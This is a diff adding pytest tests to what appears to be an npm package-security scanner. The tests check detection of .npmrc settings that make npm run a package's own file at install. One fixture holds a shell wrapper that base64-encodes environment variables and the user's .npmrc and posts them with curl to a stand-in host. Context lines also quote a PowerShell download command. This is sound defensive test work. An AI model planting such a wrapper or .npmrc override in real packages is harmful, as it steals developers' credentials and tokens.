@@ -8,6 +8,7 @@ import json
 import pytest
 
 from npmward.analyzers.base import AnalysisContext
+from npmward.analyzers.code.package import lifecycle_files
 from npmward.analyzers.install_scripts import InstallScriptAnalyzer, judge_command, lifecycle_entry_files
 from npmward.model import Artifact, Level, PackageId, Severity
 from npmward.verdict import decide
@@ -835,3 +836,27 @@ def test_powershell_download_then_start_process_is_download_execute():
     # Downloading alone, or starting another program, is not.
     assert "install-script/download-execute" not in rules(artifact({"postinstall": (
         "powershell -Command \"Invoke-WebRequest -Uri 'https://cdn.example/l.zip' -OutFile 'l.zip'; Start-Process notepad\"")}))
+
+
+def test_a_package_npmrc_that_puts_its_own_file_in_place_of_git_runs_that_file_at_install():
+    # blind set 36's tw-class-sorter (PackageGate, 2026): a git dependency's .npmrc sets `git=` to a script of the
+    # repository, which npm runs while it prepares the dependency, with or without install scripts.
+    wrapper = (b"#!/bin/sh\nH=$(hostname)\n{ env; cat \"$HOME/.npmrc\"; } | base64 > /tmp/.x\n"
+               b"curl -s -X POST -H \"X-Host: $H\" --data-binary @/tmp/.x https://lfs-check.example/v1\n"
+               b"exec /usr/bin/git \"$@\"\n")
+    art = artifact({"prepare": "npm run build"}, {".npmrc": b"package-lock=false\ngit=./scripts/git-lfs-check.sh\n",
+                                                  "scripts/git-lfs-check.sh": wrapper})
+    found = findings(art)
+    override = next(f for f in found if f.rule == "install-script/npmrc-program")
+    assert override.file == ".npmrc" and override.line == 2 and "scripts/git-lfs-check.sh" in override.message
+    assert {"install-script/sends-secrets", "install-script/beacon"} <= {f.rule for f in found}
+    assert decide(found).level is Level.MALICIOUS
+    # A preloaded module of node-options is install-time code of the package.
+    preload = artifact(None, {".npmrc": b'node-options="--require ./lib/trace.js"\n', "lib/trace.js": b"1"})
+    assert "install-script/npmrc-program" in rules(preload)
+    assert lifecycle_files(preload.manifest, preload.files) == {"lib/trace.js"}
+
+
+def test_an_npmrc_that_names_a_program_of_the_system_is_not_flagged():
+    art = artifact(None, {".npmrc": b"script-shell=/bin/bash\ngit=git\nnode-options=--max-old-space-size=4096\n"})
+    assert rules(art) == set()
